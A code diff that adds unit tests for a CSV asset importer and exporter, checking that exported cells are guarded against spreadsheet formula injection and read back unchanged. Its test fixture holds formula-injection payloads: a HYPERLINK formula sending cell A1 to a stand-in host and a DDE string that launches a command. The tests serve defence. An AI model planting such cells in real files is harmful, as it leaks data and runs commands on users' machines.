@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import { CsvError, decodeAssetCsv, formatAssetCsv, parseAssetCsv, readAssetCsv } from './asset-csv.js';
 
 describe('asset CSV', () => {
@@ -147,5 +148,34 @@ describe('asset CSV file encodings', () => {
     const file = bytes('identifier,id_type,erp_asset_id\r\ntag-1,tag,A1\r\nGr', [0xfa], 'a-7,tag,A2\r\n');
     expect(() => decodeAssetCsv(file, 'w.csv')).toThrow(CsvError);
     expect(() => decodeAssetCsv(file, 'w.csv')).toThrow('w.csv line 3: not UTF-8 text ("Gr\uFFFDa-7,tag,A2"); save the file as UTF-8 (in Excel: "CSV UTF-8") and import it again');
+  });
+});
+
+describe('asset CSV: cells a spreadsheet would run as formulas', () => {
+  const hostile = [
+    {
+      asset: { erpAssetId: '-EQ-7', erpModule: 'fixed-assets', attributes: { '=name': '=HYPERLINK("http://x.example/?"&A1,"open")', site: "@SUM(1+1)*cmd|' /C calc'!A0", cost: '-1500', note: "'=already guarded" } },
+      identifiers: [
+        { type: 'serial' as const, value: '+49 30 1234', erpAssetId: '-EQ-7' },
+        { type: 'tag' as const, value: "'+tag", erpAssetId: '-EQ-7' },
+        { type: 'external-ref' as const, value: '-5', erpAssetId: '-EQ-7' },
+      ],
+    },
+  ];
+
+  it('exports them behind a quote, so no cell opens as a formula, and a re-import reads back what was exported', () => {
+    const text = formatAssetCsv(hostile);
+    const cells: string[][] = parse(text);
+    for (const cell of cells.flat()) expect(cell === '-5' || cell === '-1500' || !/^[=+\-@\t\r]/.test(cell), cell).toBe(true);
+    expect(cells[0]).toContain("'=name");
+    expect(cells[1]?.slice(0, 3)).toEqual(["'+49 30 1234", 'serial', "'-EQ-7"]);
+    expect(cells[2]?.[0]).toBe("''+tag");
+    expect(parseAssetCsv(text)).toEqual(hostile);
+  });
+
+  it('reads a cell a spreadsheet kept its text quote on (\'=x) as the value, and leaves other quotes alone', () => {
+    const rows = parseAssetCsv("identifier,id_type,erp_asset_id,note\n'@tag-1,tag,A1,it's fine\n");
+    expect(rows[0]?.identifiers[0]?.value).toBe('@tag-1');
+    expect(rows[0]?.asset.attributes).toEqual({ note: "it's fine" });
   });
 });
